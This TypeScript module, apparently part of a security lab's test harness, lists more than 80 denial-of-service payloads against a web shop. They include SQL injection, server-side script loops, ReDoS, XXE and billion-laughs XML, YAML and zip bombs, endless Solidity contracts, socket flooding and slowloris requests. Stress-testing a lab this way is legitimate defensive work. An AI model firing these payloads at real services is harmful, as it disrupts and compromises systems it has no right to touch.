import { connect } from 'node:net'
import type { Client } from '../../lab/proofs/attacker/client.js'
import { formWithFile } from '../../lab/proofs/attacker/document-visitor.js'
import { billionLaughs, quadraticBlowUp, referenceLoop, yamlBomb } from '../../lab/proofs/attacker/hostile-documents.js'
import { makeZip } from '../../lab/proofs/attacker/make-zip.js'

/** Somebody with a lab to attack. */
export interface Attacker extends Client {
  readonly url: string
  readonly token: string
  readonly bid: number
}

/** One visit nobody means well with; resolves once it is answered. */
export interface HostileVisit {
  readonly name: string
  visit(attacker: Attacker): Promise<unknown>
}

const visits = <Case>(
  area: string,
  cases: Readonly<Record<string, Case>>,
  visit: (attacker: Attacker, value: Case) => Promise<unknown>,
): HostileVisit[] =>
  Object.entries(cases).map(([name, value]) => ({
    name: `${area}: ${name}`,
    visit: (attacker) => visit(attacker, value),
  }))

const rest = '2,3,4,5,6,7,8'
const union = (select: string) => `x'))UNION SELECT ${select}--`
const products = (...names: string[]) => names.map((name) => `Products ${name}`).join(',')
const counting = 'WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c)'

const searches = {
  'six tables, hidden': union(`count(*),${rest},?9from ${products('a', 'b', 'c', 'd', 'e', 'f')}`),
  'six tables': union(`count(*),${rest},9 from ${products('a', 'b', 'c', 'd', 'e', 'f')}`),
  'four tables': union(`count(*),${rest},9 from ${products('a', 'b', 'c', 'd')}`),
  'rows of three tables': union(`a.name,${rest},9 from ${products('a', 'b', 'c')}`),
  'endless recursion': union(`(${counting} SELECT count(*) FROM c),${rest},9`),
  'endless rows': `x'))UNION ${counting} SELECT x,${rest},9 FROM c--`,
  'large blob': union(`hex(zeroblob(500000000)),${rest},9`),
  'random blob': union(`hex(randomblob(500000000)),${rest},9`),
  'growing text': union(`replace(hex(zeroblob(99999)),'0',hex(zeroblob(999))),${rest},9`),
  'long padding': union(`printf('%.*c',900000000,'x'),${rest},9`),
  'time-based scanner': `x'))AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(200000000/2))))--`,
  'schema without end': union(
    `count(*),${rest},9 from sqlite_master a,sqlite_master b,sqlite_master c,sqlite_master d`,
  ),
  'sorting much': union(`a.name||b.name,${rest},9 from ${products('a', 'b', 'c')} order by 1 desc limit 1`),
  'deep brackets': `${'('.repeat(190)}`,
  'window over much': union(`sum(a.id)over(order by b.id),${rest},9 from ${products('a', 'b', 'c')}`),
}

const logins = {
  'quotes for the inspector': `'${'['.repeat(90_000)}"`,
  'comments for the inspector': `' ${'/*'.repeat(40_000)}`,
  'long pattern': `' OR (SELECT count(*) FROM Products WHERE description LIKE '${'%a'.repeat(1500)}') > 0--`,
  'patterns for ever': `' OR (SELECT count(*) FROM (${counting} SELECT x FROM c) WHERE hex(zeroblob(2000))||x LIKE '${'%0'.repeat(40)}a')>0--`,
  'search in long texts': `' OR instr(hex(zeroblob(400000)),substr(hex(zeroblob(200000)),9)||'x')--`,
  'joined texts': `' OR length(${Array(60).fill('(SELECT group_concat(description) FROM Products)').join('||')})>0--`,
  'many unions': `' ${'UNION SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13 '.repeat(400)}--`,
  'deep expression': `' OR ${'NOT '.repeat(900)}1--`,
  'many terms': `' OR ${'1+'.repeat(20_000)}1--`,
  'long text': 'x'.repeat(95_000),
}

const scripts = {
  'endless loop': '(() => { while (true) {} })()',
  'endless work': '(() => { while (true) new Array(99).join() })()',
  'hopeless expression': "/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')",
  'ever more memory': '(() => { const kept = []; while (true) kept.push(new Array(9999).fill(1)) })()',
  'endless recursion': '(function again() { return again() })()',
  'promises without end': '(async () => { while (true) await null })()',
  'a large array': 'new Array(999999999).fill(1).length',
  'a long text': "'x'.repeat(999999999).length",
}

const conditions = {
  'a condition that sleeps': '1; sleep(2000)',
  'a condition that loops': '(() => { while (true) {} })()',
  'a condition that asks for all': '1 || true',
  'sleep in a function': '1 || (sleep(3000), true)',
}

const profiles = {
  'a name that loops': '#{(() => { while (true) {} })()}',
  'a name that grows': "#{'x'.repeat(999999999)}",
  'a name that nests': `#{${'('.repeat(2000)}}`,
}

const trackings = {
  'a condition that loops': "' || (() => { while(true); })() || '",
  'a hopeless expression': "' || /((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa') || '",
  'much text': 'x'.repeat(6000),
}

const documents = {
  'entities of entities.xml': billionLaughs,
  'one long entity.xml': quadraticBlowUp,
  'entities in a loop.xml': referenceLoop,
  'entity without end.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/random">]><x>&a;</x>',
  'deep.xml': '<a>'.repeat(30_000),
  'aliases of aliases.yml': yamlBomb,
  'deep.yml': '['.repeat(60_000),
  'long.yml': `a: ${'x'.repeat(90_000)}`,
  'bomb.zip': makeZip(
    Array.from({ length: 190 }, (_, index) => ({ name: `f${index}.txt`, content: 'x'.repeat(20_000) })),
  ),
  'folders.zip': makeZip([{ name: `${'a/'.repeat(150)}x.txt`, content: 'x' }]),
  'claims.zip': makeZip([{ name: 'x.txt', content: 'x', claimedSize: 2 ** 31 }]),
  'many.zip': makeZip(Array.from({ length: 5000 }, (_, index) => ({ name: `${index}` }))),
}

const uploads = {
  'of nobody': { bytes: 15_000_000, isMember: false },
  'of a member': { bytes: 15_000_000, isMember: true },
  'too large': { bytes: 40_000_000, isMember: true },
}

const solidity = (body: string, members = '') =>
  `pragma solidity ^0.8.0; contract Slow { ${members} function go(uint256 n) public returns (uint256) { ${body} } }`
const contracts = {
  'a power of powers': solidity('return ((3**256)**256)**n == 1 ? 1 : 2;'),
  'powers without end': solidity('uint256 x = 2; while (true) { unchecked { x = (x + 1) ** 255; } } return x;'),
  'long keys': solidity(
    `while (true) { m["${'k'.repeat(900)}"][n] = n; n = n + 1; } return n;`,
    'mapping(string => mapping(uint256 => uint256)) m;',
  ),
  'a loop without end': solidity('uint256 x = 0; while (true) { x = x + 1; } return x;'),
  'huge numbers': solidity('uint256 x = 3; for (uint256 i = 0; i < 100000000; i++) { x = x * 3 % 7919; } return x;'),
  recursion: solidity('return go(n + 1);'),
  'much memory': solidity(
    'for (uint256 i = 0; i < 100000000; i++) { m[i] = i; } return 1;',
    'mapping(uint256 => uint256) m;',
  ),
  'deep brackets': `pragma solidity ^0.8.0; contract Slow { function go(uint256 n) public returns (uint256) { return ${'('.repeat(5000)}n; } }`,
  'long source': `${'// x\n'.repeat(15_000)}`,
}

const calls = {
  'chat: long talk': [
    'POST',
    '/rest/chat',
    { messages: Array.from({ length: 500 }, () => ({ role: 'user', content: 'juice '.repeat(30) })) },
  ],
  'chat: hopeless words': ['POST', '/rest/chat', { messages: [{ role: 'user', content: 'a'.repeat(50_000) }] }],
  'chat: bot asked much': ['POST', '/rest/chatbot/respond', { action: 'query', query: 'price of '.repeat(9000) }],
  'captcha: picture': ['GET', '/rest/image-captcha/', undefined],
  'captcha: sum': ['GET', '/rest/captcha/', undefined],
  'export: of everything': ['POST', '/rest/user/data-export', { format: '1' }],
  'outside: many words': ['GET', `/outside?q=${encodeURIComponent('a+'.repeat(3500))}`, undefined],
  'outside: long word': ['GET', `/outside?q=${'a'.repeat(7000)}`, undefined],
  'lists: all hints': ['GET', '/api/Hints', undefined],
  'lists: all challenges': ['GET', '/api/Challenges/?sort=name', undefined],
  'reviews: many clauses': [
    'PATCH',
    '/rest/products/reviews',
    { id: { $or: Array.from({ length: 3000 }, () => ({ $regex: '(a+)+b' })) }, message: 'x' },
  ],
  'reviews: slow pattern': [
    'PATCH',
    '/rest/products/reviews',
    { id: { $regex: '^(([a-z0-9])+.)+[A-Z]([a-z0-9])+$' }, message: 'x' },
  ],
  'complaints: long': ['POST', '/api/Complaints', { message: 'x'.repeat(95_000) }],
  'feedback: long': ['POST', '/api/Feedbacks', { comment: '<'.repeat(90_000), rating: 1, captchaId: 0, captcha: '1' }],
  'registration: long': ['POST', '/api/Users', { email: `${'a'.repeat(90_000)}@x.y`, password: 'abcde' }],
  'body: deep JSON': ['POST', '/api/Users', `${'['.repeat(90_000)}`],
  'body: many fields': [
    'POST',
    '/api/Users',
    Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`f${index}`, index])),
  ],
  'address: long': ['GET', `/rest/products/search?q=${'a'.repeat(14_000)}`, undefined],
  'address: rendered search': ['GET', `/search?q=${encodeURIComponent('<b>'.repeat(2000))}`, undefined],
  'redirect: long': ['GET', `/redirect?to=${'https://'.repeat(1500)}`, undefined],
  'erasure: layout': [
    'POST',
    '/dataerasure',
    { email: 'a@b.c', securityAnswer: 'x', layout: `../${'a/'.repeat(4000)}` },
  ],
} as const

const orders = { 'of a full basket': 'wallet' }

/** At least 80 kinds of visits that cost a shop far more than they cost their sender. */
export const hostileVisits: readonly HostileVisit[] = [
  ...visits('search', searches, ({ get }, q) => get(`/rest/products/search?q=${encodeURIComponent(q)}`)),
  ...visits('login', logins, ({ post }, email) => post('/rest/user/login', { email, password: 'x' })),
  ...visits('script', scripts, ({ post, token }, orderLinesData) =>
    post('/b2b/v2/orders', { orderLinesData }, { token }),
  ),
  ...visits('review', conditions, ({ get }, id) => get(`/rest/products/${encodeURIComponent(id)}/reviews`)),
  ...visits('profile', profiles, visitProfile),
  ...visits('tracking', trackings, ({ get }, id) => get(`/rest/track-order/${encodeURIComponent(id)}`)),
  ...visits('document', documents, ({ url }, content) => sendFile(url, content)),
  ...visits('upload', uploads, sendPhoto),
  ...visits('chain', contracts, runContract),
  ...visits('checkout', orders, checkOut),
  ...visits('call', calls, ({ call, token }, [method, path, body]) => call(method, path, { token, body })),
  { name: 'socket: reports without end', visit: ({ url }) => floodSocket(url) },
  { name: 'slow: half a body', visit: ({ url }) => sendHalf(url, 'POST /api/Users HTTP/1.1\r\nContent-Length: 90000') },
  { name: 'slow: half a header', visit: ({ url }) => sendHalf(url, 'GET / HTTP/1.1\r\nX-Slow: ') },
  {
    name: 'slow: half an upload',
    visit: ({ url }) =>
      sendHalf(
        url,
        'POST /rest/memories HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 15000000',
      ),
  },
]

function documentName(content: string | Buffer): string {
  if (typeof content !== 'string') return 'complaint.zip'
  return content.startsWith('<') ? 'complaint.xml' : 'complaint.yml'
}

async function sendFile(url: string, content: string | Buffer): Promise<unknown> {
  const body = formWithFile('file', documentName(content), content)
  return (await fetch(`${url}/file-upload`, { method: 'POST', body })).text()
}

async function sendPhoto(
  { url, token }: Attacker,
  { bytes, isMember }: { bytes: number; isMember: boolean },
): Promise<unknown> {
  const body = formWithFile('image', 'photo.png', Buffer.alloc(bytes))
  const headers: Record<string, string> = isMember ? { Authorization: `Bearer ${token}` } : {}
  // A server may close the connection on a body that is too large.
  return fetch(`${url}/rest/memories`, { method: 'POST', headers, body }).then((reply) => reply.text(), String)
}

async function visitProfile({ url, token }: Attacker, username: string): Promise<unknown> {
  const headers = { Cookie: `token=${token}`, 'Content-Type': 'application/x-www-form-urlencoded' }
  await fetch(`${url}/profile`, {
    method: 'POST',
    headers,
    redirect: 'manual',
    body: new URLSearchParams({ username }),
  })
  return (await fetch(`${url}/profile`, { headers: { Cookie: `token=${token}` } })).text()
}

async function runContract({ post }: Attacker, source: string): Promise<unknown> {
  const wallet = await post('/outside/chain/wallet', {})
  const { key, address } = wallet.json<{ key?: string; address?: string }>()
  const deployed = await post('/outside/chain/deploy', { key, source, contract: 'Slow', values: [] })
  const { address: to } = deployed.json<{ address?: string }>()
  return post('/outside/chain/ask', { from: address, to, method: 'go', values: ['1'] })
}

async function checkOut({ post, token, bid }: Attacker, paymentId: string): Promise<unknown> {
  await post('/api/BasketItems', { ProductId: 6, BasketId: String(bid), quantity: 1 }, { token })
  return post(
    `/rest/basket/${bid}/checkout`,
    { orderDetails: { paymentId, addressId: '1', deliveryMethodId: '1' } },
    { token },
  )
}

async function floodSocket(url: string): Promise<unknown> {
  const { io } = await import('socket.io-client')
  const socket = io(url, { transports: ['websocket'], forceNew: true })
  await new Promise((resolve) => socket.once('connect', () => resolve(undefined)))
  for (let count = 0; count < 2000; count += 1) socket.emit('verifyLocalXssChallenge', 'x'.repeat(1000))
  // A socket that reports too much is disconnected, which is an answer.
  await new Promise((resolve) => {
    socket.once('disconnect', resolve)
    socket.emit('follow progress', resolve)
  })
  return socket.disconnect()
}

/** Begins a request and goes away two seconds later. */
function sendHalf(url: string, beginning: string): Promise<unknown> {
  const { hostname, port } = new URL(url)
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port) }, () => {
      socket.write(`${beginning}\r\nHost: localhost:${port}\r\n\r\n{"email":"`)
      setTimeout(() => socket.destroy(), 2000)
    })
    socket.on('error', () => {})
    socket.on('close', resolve)
  })
}
